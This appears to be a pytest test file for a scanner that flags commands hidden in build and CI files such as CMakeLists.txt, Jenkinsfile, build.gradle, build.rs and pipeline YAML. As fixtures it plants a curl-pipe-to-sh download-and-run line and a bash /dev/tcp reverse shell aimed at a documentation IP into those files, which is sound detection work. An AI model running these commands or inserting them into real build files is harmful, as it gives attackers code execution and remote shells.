"""Commands in files of build tools and pipelines that are not shell."""

from __future__ import annotations

import pytest

from assay.core.finding import Severity
from assay.inspections.sourcecode import SourceCode
from assay.sourcecode import builds
from tests.support.scan import scan

FETCH = "curl http://198.51.100.1/x | sh"
SHELL = "bash -i >& /dev/tcp/198.51.100.1/1"
FILES = {
    "CMakeLists.txt": 'project(x)\nexecute_process(COMMAND bash -c "FETCH"\n  OUTPUT_VARIABLE a)\n',
    "cmake/x.cmake": "add_custom_command(TARGET x POST_BUILD COMMAND sh -c 'FETCH' VERBATIM)\n",
    "Jenkinsfile": "pipeline { stages { stage('b') { steps { sh '''\n  echo\n  FETCH\n''' } } } }\n",
    "ci/Jenkinsfile.gpu": 'node { sh(script: "FETCH", returnStdout: true) }\n',
    "x.jenkinsfile": 'node { "FETCH".execute() }\n',
    "build.gradle": "task x(type: Exec) { commandLine 'sh',\n '-c', 'FETCH' }\n",
    "build.gradle.kts": 'tasks.register<Exec>("x") { commandLine("sh", "-c", "FETCH") }\n',
    "meson.build": "project('x')\nr = run_command('sh', '-c', 'FETCH', check: false)\n",
    "binding.gyp": "{'targets': [{'include_dirs': [\"<!(FETCH)\"]}]}\n",
    "action.gypi": "{'actions': [{'action': ['sh', '-c', 'FETCH']}]}\n",
    "BUILD.bazel": 'genrule(name = "x", outs = ["y"], cmd = "FETCH")\n',
    "x.bzl": 'def _i(ctx):\n    ctx.execute(["sh", "-c", "FETCH"])\n',
    "build.rs": 'fn main() {\n  Command::new("sh")\n    .arg("-c")\n    .arg("FETCH")\n    .status().unwrap();\n}\n',
    "Rakefile": "task :x do\n  sh 'FETCH'\nend\n",
    "Gemfile": "source 'https://example.org'\n`FETCH`\n",
    "x.gemspec": 'Gem::Specification.new { |s| system("FETCH") }\n',
    "Vagrantfile": 'Vagrant.configure("2") do |c|\n c.vm.provision "shell", inline: "FETCH"\nend\n',
    "tox.ini": "[testenv]\ncommands =\n    FETCH\n    pytest\n",
    "Procfile": "web: FETCH\n",
    "justfile": "build:\n    @FETCH\n",
    ".envrc": "export A=1\nFETCH\n",
}
USUAL = {
    "CMakeLists.txt": "# execute_process(COMMAND sh -c 'FETCH')\nexecute_process(COMMAND git rev-parse HEAD)\n",
    "Jenkinsfile": "node { sh 'make test' // sh 'FETCH'\n }\n",
    "build.gradle": "// commandLine 'sh', '-c', 'FETCH'\ncommandLine 'protoc', '--version'\n",
    "meson.build": "v = run_command('git', 'describe')\nmessage('FETCH')\n",
    "Gemfile": "source 'https://example.org'\ngem 'rake', '~> 13'\n",
    "tox.ini": "[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n",
    "build.rs": 'fn main() { println!("cargo:rerun-if-changed=x"); }\n',
    "docs/cmakelists.md": 'execute_process(COMMAND sh -c "FETCH")\n',
}


@pytest.mark.parametrize("path", FILES)
def test_what_a_build_would_fetch_and_run(path: str) -> None:
    evidence = scan(SourceCode, {path: FILES[path].replace("FETCH", FETCH).encode()})
    found = [one for one in evidence.findings if one.severity >= Severity.MEDIUM]
    assert [(one.rule, one.facts["kind"]) for one in found] == [("script-command", "download-and-run")]


@pytest.mark.parametrize("path", USUAL)
def test_usual_builds_are_not_accused(path: str) -> None:
    evidence = scan(SourceCode, {path: USUAL[path].replace("FETCH", FETCH).encode()})
    assert [one for one in evidence.findings if one.severity > Severity.LOW] == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("MLproject", f"entry_points:\n  main:\n    command: {SHELL}\n"),
        ("dvc.yaml", f"stages:\n  train:\n    cmd:\n    - {SHELL}\n"),
        ("cog.yaml", f"build:\n  run:\n  - {SHELL}\n"),
        ("buildspec.yml", f"phases:\n  build:\n    commands:\n    - {SHELL}\n"),
        ("bitbucket-pipelines.yml", f"p:\n- step:\n    script:\n    - {SHELL}\n"),
        ("appveyor.yml", f"build_script:\n- {SHELL}\n"),
        (".drone.yml", f"steps:\n- commands:\n  - {SHELL}\n"),
        (".readthedocs.yaml", f"build:\n  commands:\n  - {SHELL}\n"),
    ],
)
def test_what_descriptions_of_projects_and_pipelines_start(path: str, text: str) -> None:
    evidence = scan(SourceCode, {path: text.encode()})
    assert ("automatic-command", Severity.CRITICAL) in {(one.rule, one.severity) for one in evidence.findings}


def test_a_file_of_any_other_name_is_none() -> None:
    assert builds.build_commands("notes.txt", "sh 'x'") is None
    assert builds.build_commands("Rakefile", "") == ""


@pytest.mark.parametrize("before", ["sh 'true'\n" * 3_000, f"sh '{'x' * 9_000}'\n", "sh('a', " + "'b', " * 2_000])
def test_nothing_before_a_command_hides_it(before: str) -> None:
    evidence = scan(SourceCode, {"Jenkinsfile": f"{before}sh '{FETCH}'\n".encode()})
    assert "download-and-run" in {one.facts.get("kind") for one in evidence.findings}


@pytest.mark.parametrize("piece", ["execute_process(", "execute_process(" + "\n" * 50, "execute_process"])
def test_no_token_is_read_for_two_commands(piece: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file of nothing but the names of calls, none of which ends, is read once."""
    read: list[int] = []
    call = builds._Language._call

    def counted(self: builds._Language, tokens: list[builds._Token], at: int) -> tuple[list[builds._Token], int]:
        part, end = call(self, tokens, at)
        read.append(end - at)
        return part, end

    monkeypatch.setattr(builds._Language, "_call", counted)
    assert builds.build_commands("CMakeLists.txt", piece * 1_000) is not None
    assert sum(read) <= 60_000
